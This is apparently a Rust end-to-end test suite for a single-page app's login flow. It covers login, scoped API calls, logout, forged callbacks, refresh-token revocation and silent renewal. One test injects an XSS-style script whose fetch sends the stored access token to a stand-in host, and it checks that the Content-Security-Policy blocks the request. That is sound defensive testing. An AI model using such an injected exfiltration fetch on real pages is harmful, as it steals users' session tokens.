//! The whole story in real Chromium, as a person lives it: log in at the dev tenant, call the API,
//! see the profile, log out; then a user without `read:messages`; then a forged callback; then,
//! at a tenant whose access tokens live a few seconds, a reader who stays signed in in two tabs
//! through several lifetimes, and whose refresh token is refused after the logout; and at such
//! a tenant, an app without refresh tokens whose reader stays signed in by silent renewal.

use e2e::{AUDIENCE, Browser, Failure, Stack, Traffic, button, exact_text, jwt_claims, link};
use std::path::PathBuf;
use std::time::{Duration, Instant};

const LOGGED_OUT: &str = "You are not logged in! Please Log In to continue.";
const LOGGED_IN: &str =
    "You are logged in! You can now send authenticated requests to your server.";
const PUBLIC_MESSAGE: &str =
    "Hello from a public endpoint! You don't need to be authenticated to see this.";
const PRIVATE_MESSAGE: &str =
    "Hello from a private endpoint! You need to be authenticated to see this.";
const SCOPED_MESSAGE: &str = "Hello from a private endpoint! You need to be authenticated and have a scope of read:messages to see this.";
const SESSION_KEYS: [&str; 3] = ["access_token", "id_token", "expires_at"];
/// How long the short-lived tenant's access tokens live.
const SHORT_LIFETIME: Duration = Duration::from_secs(6);
/// How many of those lifetimes the reader works through.
const LIFETIMES: u32 = 4;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_person_logs_in_calls_the_api_and_logs_out() -> Result<(), Failure> {
    let dist = PathBuf::from(
        std::env::var("E2E_DIST")
            .unwrap_or_else(|_| concat!(env!("CARGO_MANIFEST_DIR"), "/../../dist").to_owned()),
    );
    let stack = Stack::start(&dist).await?;
    let short_lived = Stack::start_with(&dist, Some(SHORT_LIFETIME)).await?;
    let mut without_refresh_tokens = serde_json::Map::new();
    without_refresh_tokens.insert("useRefreshTokens".to_owned(), false.into());
    let silent =
        Stack::start_configured(&dist, Some(SHORT_LIFETIME), without_refresh_tokens).await?;
    let mut browser = Browser::start().await?;
    // The stories run to their end or first failure; the browser is closed either way, so no
    // Chromium outlives the test.
    let mut outcome = story(&stack, &mut browser).await;
    if outcome.is_ok() {
        outcome = renewal_story(&short_lived, &mut browser).await;
    }
    if outcome.is_ok() {
        outcome = silent_renewal_story(&silent, &mut browser).await;
    }
    let closed = browser.close().await;
    outcome?;
    closed
}

/// A reader of an app configured with `useRefreshTokens: false`, at a tenant whose access
/// tokens live [`SHORT_LIFETIME`] and which is same-site with the app (both on `localhost`),
/// stays signed in through two lifetimes: the session is renewed silently, `prompt=none` in a
/// hidden frame answered by web message, and the private API keeps answering.
async fn silent_renewal_story(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
    let traffic = &stack.traffic;
    browser
        .client
        .goto(&format!("{}/", stack.spa_origin))
        .await?;
    log_in(stack, browser, "reader@example.com").await?;
    browser
        .wait_for("the logged-in greeting", &exact_text(LOGGED_IN))
        .await?;
    if browser.stored_refresh_token().await?.is_some() {
        return Err("a login without refresh tokens left one in IndexedDB".into());
    }
    let first_token = browser
        .local_storage("access_token")
        .await?
        .unwrap_or_default();
    let first_exp = jwt_claims(&first_token)?["exp"]
        .as_u64()
        .unwrap_or_default();
    browser.click_link("Ping").await?;
    let started = Instant::now();
    while started.elapsed() < SHORT_LIFETIME * 2 {
        let answered = Traffic::read(&traffic.api_ok);
        browser.click_button("Call Private API").await?;
        browser
            .wait_until("the private API's answer", || async {
                Ok(Traffic::read(&traffic.api_ok) > answered)
            })
            .await?;
        browser
            .wait_for("the private message", &exact_text(PRIVATE_MESSAGE))
            .await?;
        tokio::time::sleep(Duration::from_millis(700)).await;
    }
    browser.screenshot("ping-after-silent-renewals").await?;
    let silent = Traffic::read(&traffic.silent_authorizations);
    if silent == 0 {
        return Err("no silent authorization request reached the tenant".into());
    }
    let unauthorized = Traffic::read(&traffic.api_unauthorized);
    if unauthorized > 0 {
        return Err(format!("the API answered 401 {unauthorized} times").into());
    }
    let renewed_token = browser
        .local_storage("access_token")
        .await?
        .unwrap_or_default();
    let renewed_exp = jwt_claims(&renewed_token)?["exp"]
        .as_u64()
        .unwrap_or_default();
    if renewed_exp <= first_exp {
        return Err(
            format!("the access token's exp went from {first_exp} only to {renewed_exp}").into(),
        );
    }
    if browser.stored_refresh_token().await?.is_some() {
        return Err("a silent renewal left a refresh token in IndexedDB".into());
    }
    println!(
        "e2e: signed in for {:?} by {silent} silent renewals",
        started.elapsed()
    );
    // The hidden frame is allowed by the shipped policy's frame-src, and nothing else was refused.
    traffic.expect_no_csp_violations("silent renewal")
}

/// A reader at a tenant whose access tokens live [`SHORT_LIFETIME`] keeps calling the private
/// API from two tabs for [`LIFETIMES`] lifetimes: every call succeeds (the API answers no 401),
/// the tabs renew one at a time (a refresh token replayed by the second tab would revoke the
/// family and log both out), and after the logout the last refresh token is revoked.
async fn renewal_story(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
    let traffic = &stack.traffic;
    browser
        .client
        .goto(&format!("{}/", stack.spa_origin))
        .await?;
    log_in(stack, browser, "reader@example.com").await?;
    browser
        .wait_for("the logged-in greeting", &exact_text(LOGGED_IN))
        .await?;
    let first_token = browser
        .local_storage("access_token")
        .await?
        .unwrap_or_default();
    let first_exp = jwt_claims(&first_token)?["exp"]
        .as_u64()
        .unwrap_or_default();
    if browser.stored_refresh_token().await?.is_none() {
        return Err("the login left no refresh token in IndexedDB".into());
    }
    browser.click_link("Ping").await?;
    let first_tab = browser.client.window().await?;
    let second_tab = browser.client.new_window(true).await?.handle;
    browser.client.switch_to_window(second_tab.clone()).await?;
    browser
        .client
        .goto(&format!("{}/ping", stack.spa_origin))
        .await?;
    let logins = Traffic::read(&traffic.token_requests);
    let started = Instant::now();
    let mut calls = 0u32;
    while started.elapsed() < SHORT_LIFETIME * LIFETIMES {
        let tab = if calls.is_multiple_of(2) {
            &first_tab
        } else {
            &second_tab
        };
        browser.client.switch_to_window(tab.clone()).await?;
        let answered = Traffic::read(&traffic.api_ok);
        browser.click_button("Call Private API").await?;
        browser
            .wait_until("the private API's answer", || async {
                Ok(Traffic::read(&traffic.api_ok) > answered)
            })
            .await?;
        browser
            .wait_for("the private message", &exact_text(PRIVATE_MESSAGE))
            .await?;
        let unauthorized = Traffic::read(&traffic.api_unauthorized);
        if unauthorized > 0 {
            return Err(
                format!("the API answered 401 {unauthorized} times during renewals").into(),
            );
        }
        calls += 1;
        tokio::time::sleep(Duration::from_millis(700)).await;
    }
    browser.screenshot("ping-after-renewals").await?;
    let renewals = Traffic::read(&traffic.token_requests) - logins;
    let elapsed = started.elapsed();
    println!(
        "e2e: {calls} private calls from two tabs over {elapsed:?}: {renewals} refresh requests"
    );
    // Every lifetime that passed needed a renewal; one tab renews three quarters into each
    // token's lifetime, so even twice that many would mean the tabs did not take turns.
    let lifetimes_passed = elapsed.as_secs_f64() / SHORT_LIFETIME.as_secs_f64();
    let fewest = lifetimes_passed.floor() as u64 - 1;
    let most = (lifetimes_passed * 4.0 / 3.0 * 2.0).ceil() as u64 + 1;
    if !(fewest..=most).contains(&renewals) {
        return Err(format!(
            "{renewals} refresh requests over {lifetimes_passed:.1} lifetimes, not {fewest} to {most}"
        )
        .into());
    }
    let lifetimes = u64::from(LIFETIMES);
    let renewed_token = browser
        .local_storage("access_token")
        .await?
        .unwrap_or_default();
    let renewed_exp = jwt_claims(&renewed_token)?["exp"]
        .as_u64()
        .unwrap_or_default();
    if renewed_exp < first_exp + SHORT_LIFETIME.as_secs() * (lifetimes - 1) {
        return Err(
            format!("the access token's exp went from {first_exp} only to {renewed_exp}").into(),
        );
    }
    let last_refresh_token = browser
        .stored_refresh_token()
        .await?
        .ok_or("no refresh token before the logout")?;

    // The logout revokes the refresh token; the other tab logs out too.
    browser.client.switch_to_window(first_tab.clone()).await?;
    browser
        .client
        .goto(&format!("{}/", stack.spa_origin))
        .await?;
    let revocations = Traffic::read(&traffic.revocations);
    log_out(stack, browser).await?;
    if Traffic::read(&traffic.revocations) <= revocations {
        return Err("the logout sent no revocation to /oauth/revoke".into());
    }
    if browser.stored_refresh_token().await?.is_some() {
        return Err("the refresh token is still in IndexedDB after the logout".into());
    }
    let (status, body) = browser
        .refresh_at(&format!("{}oauth/token", stack.issuer), &last_refresh_token)
        .await?;
    if status != 400 || !body.contains("invalid_grant") {
        return Err(format!("the revoked refresh token got {status}: {body}").into());
    }
    browser.client.switch_to_window(second_tab).await?;
    let private = browser
        .wait_for("the private button", &button("Call Private API"))
        .await?;
    browser
        .wait_until("the second tab to log out", || {
            let private = private.clone();
            async move { Ok(!private.is_enabled().await?) }
        })
        .await?;
    browser.screenshot("second-tab-logged-out").await?;
    browser.client.close_window().await?;
    browser.client.switch_to_window(first_tab).await?;
    // Renewal in two tabs, under the shipped policy, broke none of it.
    traffic.expect_no_csp_violations("renewal in two tabs")
}

async fn story(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
    let home = format!("{}/", stack.spa_origin);

    // 1. A newcomer is logged out.
    browser.client.goto(&home).await?;
    browser
        .wait_for("the logged-out greeting", &exact_text(LOGGED_OUT))
        .await?;
    browser.screenshot("home-logged-out").await?;

    // 2. Log In goes to the tenant's login page; the reader signs in.
    log_in(stack, browser, "reader@example.com").await?;

    // 3. Back in the app, logged in, with the session stored under the quickstart's keys.
    browser
        .wait_for("the logged-in greeting", &exact_text(LOGGED_IN))
        .await?;
    let url = browser.client.current_url().await?;
    if url.query().is_some_and(|query| query.contains("code=")) {
        return Err(format!("the authorization code stayed in the address bar: {url}").into());
    }
    browser.screenshot("home-logged-in").await?;
    for key in SESSION_KEYS {
        if browser.local_storage(key).await?.is_none() {
            return Err(format!("localStorage has no {key} after login").into());
        }
    }
    let access_token = browser
        .local_storage("access_token")
        .await?
        .unwrap_or_default();
    let claims = jwt_claims(&access_token)?;
    let audiences: Vec<&str> = match &claims["aud"] {
        serde_json::Value::String(one) => vec![one.as_str()],
        serde_json::Value::Array(many) => many.iter().filter_map(|value| value.as_str()).collect(),
        _ => Vec::new(),
    };
    if !audiences.contains(&AUDIENCE) {
        return Err(format!("the access token's aud {audiences:?} lacks {AUDIENCE}").into());
    }
    let scope = claims["scope"].as_str().unwrap_or_default();
    if !scope.split(' ').any(|granted| granted == "read:messages") {
        return Err(format!(
            "the reader's access token has scope {scope:?}, without read:messages"
        )
        .into());
    }
    let expires_at: u64 = browser
        .local_storage("expires_at")
        .await?
        .unwrap_or_default()
        .parse()?;
    if expires_at / 1000 != claims["exp"].as_u64().unwrap_or_default() {
        return Err(format!(
            "expires_at {expires_at} ms is not the token's exp {}",
            claims["exp"]
        )
        .into());
    }

    // 4. Script injected into the page is refused by the shipped Content-Security-Policy: an
    //    inline script never runs and a request to a foreign origin never leaves, and the
    //    browser reports both. Until now the app itself caused no violation.
    stack.traffic.expect_no_csp_violations("login")?;
    csp_refuses_injected_script(stack, browser).await?;

    // 5. The three calls each show their message.
    browser.click_link("Ping").await?;
    browser
        .wait_for("the Ping heading", &exact_text("Make a Call to the Server"))
        .await?;
    for (label, message) in [
        ("Call Public API", PUBLIC_MESSAGE),
        ("Call Private API", PRIVATE_MESSAGE),
        ("Call Private Scoped API", SCOPED_MESSAGE),
    ] {
        browser.click_button(label).await?;
        browser
            .wait_for(&format!("the answer to {label:?}"), &exact_text(message))
            .await?;
    }
    browser.screenshot("ping-reader").await?;

    // 6. The profile shows who is logged in.
    browser.click_link("Profile").await?;
    for shown in ["reader", "reader@example.com"] {
        let outside_json = format!(
            "//body//*[not(ancestor-or-self::pre) and not(ancestor-or-self::code) and normalize-space(text())={}]",
            e2e::literal(shown)
        );
        browser
            .wait_for(&format!("{shown:?} on the profile page"), &outside_json)
            .await?;
    }
    browser.screenshot("profile").await?;

    // 7. Log Out clears the session here and at the tenant.
    log_out(stack, browser).await?;
    browser.screenshot("logged-out").await?;
    if !browser
        .client
        .find_all(fantoccini::Locator::XPath(&link("Ping")))
        .await?
        .is_empty()
    {
        return Err("the Ping link is still offered after logout".into());
    }
    browser
        .client
        .goto(&format!("{}/ping", stack.spa_origin))
        .await?;
    let private = browser
        .wait_for("the private button", &button("Call Private API"))
        .await?;
    if private.is_enabled().await? {
        return Err("Call Private API can still be pressed after logout".into());
    }

    // 8. A user without read:messages: the private call works, the scoped one says why it does not.
    browser.client.goto(&home).await?;
    log_in(stack, browser, "guest@example.com").await?;
    browser
        .wait_for("the logged-in greeting", &exact_text(LOGGED_IN))
        .await?;
    browser.click_link("Ping").await?;
    browser.click_button("Call Private API").await?;
    browser
        .wait_for(
            "the private answer for the guest",
            &exact_text(PRIVATE_MESSAGE),
        )
        .await?;
    browser.click_button("Call Private Scoped API").await?;
    browser
        .wait_for(
            "an insufficient-scope explanation",
            "//*[@role='alert'][contains(., 'read:messages') and contains(., 'permission')]",
        )
        .await?;
    browser.screenshot("ping-guest-insufficient-scope").await?;
    log_out(stack, browser).await?;

    // 9. A forged callback shows an error and stores nothing.
    browser
        .client
        .goto(&format!(
            "{}/callback?code=x&state=forged",
            stack.spa_origin
        ))
        .await?;
    browser
        .wait_for("an error about the forged callback", "//*[@role='alert']")
        .await?;
    browser.screenshot("forged-callback").await?;
    for key in SESSION_KEYS {
        if let Some(value) = browser.local_storage(key).await? {
            return Err(format!("a forged callback stored {key} ({} chars)", value.len()).into());
        }
    }
    stack
        .traffic
        .expect_only_csp_violations(injected_violation, "the story")
}

/// What the injected script does when it runs, which the policy must prevent.
const INJECTED_MARK: &str = "__injected_script_ran";
/// A foreign origin an injected script tries to send the access token to (nothing listens on
/// the discard port; the policy must stop the request before it is attempted).
const EXFILTRATION_URL: &str = "http://127.0.0.1:9/collect";

/// Injects what an XSS payload would into the logged-in page: an inline `<script>` that marks
/// the window, and a `fetch` of the access token to a foreign origin. Both must be refused, as
/// violations the page observes (`securitypolicyviolation`) and the browser reports to the
/// policy's `report-uri`, and nothing else may be reported.
async fn csp_refuses_injected_script(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
    let reported_before = Traffic::read(&stack.traffic.csp_violations);
    browser
        .client
        .execute(
            &format!(
                r#"window.__csp_seen = [];
document.addEventListener("securitypolicyviolation",
  (event) => window.__csp_seen.push(event.effectiveDirective));
const script = document.createElement("script");
script.textContent = "window.{INJECTED_MARK} = true;";
document.body.appendChild(script);
window.__exfiltration = "pending";
fetch("{EXFILTRATION_URL}?t=" + localStorage.getItem("access_token"))
  .then(() => {{ window.__exfiltration = "sent"; }},
        () => {{ window.__exfiltration = "refused"; }});"#
            ),
            vec![],
        )
        .await?;
    browser
        .wait_until("the page to see both violations", || async {
            let seen = browser
                .client
                .execute("return [window.__csp_seen, window.__exfiltration];", vec![])
                .await?;
            let directives = seen[0].as_array().cloned().unwrap_or_default();
            let saw = |directive: &str| directives.iter().any(|seen| seen == directive);
            Ok(saw("script-src-elem") && saw("connect-src") && seen[1] == "refused")
        })
        .await?;
    let ran = browser
        .client
        .execute(&format!("return window.{INJECTED_MARK} === true;"), vec![])
        .await?;
    if ran != serde_json::Value::Bool(false) {
        return Err("an injected inline script ran despite the Content-Security-Policy".into());
    }
    browser
        .wait_until("the browser to report both violations", || async {
            Ok(Traffic::read(&stack.traffic.csp_violations) >= reported_before + 2)
        })
        .await?;
    stack
        .traffic
        .expect_only_csp_violations(injected_violation, "the injection")
}

/// Whether a CSP report is about what [`csp_refuses_injected_script`] injected.
fn injected_violation(report: &str) -> bool {
    report.starts_with("script-src-elem refused inline")
        || report.starts_with("connect-src refused http://127.0.0.1:9/")
}

async fn log_in(stack: &Stack, browser: &mut Browser, email: &str) -> Result<(), Failure> {
    browser.click_button("Log In").await?;
    browser
        .wait_for(
            "the tenant's login page",
            "//label[normalize-space(.)='Email']",
        )
        .await?;
    let url = browser.client.current_url().await?;
    if !url.as_str().starts_with(&stack.issuer) {
        return Err(format!("Log In went to {url}, not to the tenant {}", stack.issuer).into());
    }
    browser
        .screenshot(&format!(
            "login-page-{}",
            email.split('@').next().unwrap_or("user")
        ))
        .await?;
    browser.fill("Email", email).await?;
    browser.fill("Password", "password123").await?;
    browser.click_button("Continue").await?;
    let spa_origin = stack.spa_origin.clone();
    browser
        .wait_until("the return to the app", || {
            let client = browser.client.clone();
            let spa_origin = spa_origin.clone();
            async move {
                let url = client.current_url().await?;
                Ok(url.as_str().starts_with(&spa_origin) && url.path() != "/callback")
            }
        })
        .await
}

async fn log_out(stack: &Stack, browser: &mut Browser) -> Result<(), Failure> {
    // The page shows the logout at once, then revokes the refresh token and leaves for the
    // tenant's logout, which sends it back: a mark on this page tells the new one apart.
    browser
        .client
        .execute("window.beforeLogout = true;", Vec::new())
        .await?;
    browser.click_button("Log Out").await?;
    browser
        .wait_until("the return from the tenant's logout", || {
            let client = browser.client.clone();
            async move {
                let marked = client
                    .execute("return window.beforeLogout === true;", Vec::new())
                    .await
                    // Between the pages there is no document to ask.
                    .unwrap_or(serde_json::Value::Bool(true));
                Ok(marked == serde_json::Value::Bool(false))
            }
        })
        .await?;
    browser
        .wait_for("the logged-out greeting", &exact_text(LOGGED_OUT))
        .await?;
    let url = browser.client.current_url().await?;
    if !url.as_str().starts_with(&stack.spa_origin) {
        return Err(format!("logout ended at {url}, not back in the app").into());
    }
    for key in SESSION_KEYS {
        if browser.local_storage(key).await?.is_some() {
            return Err(format!("{key} is still in localStorage after logout").into());
        }
    }
    Ok(())
}
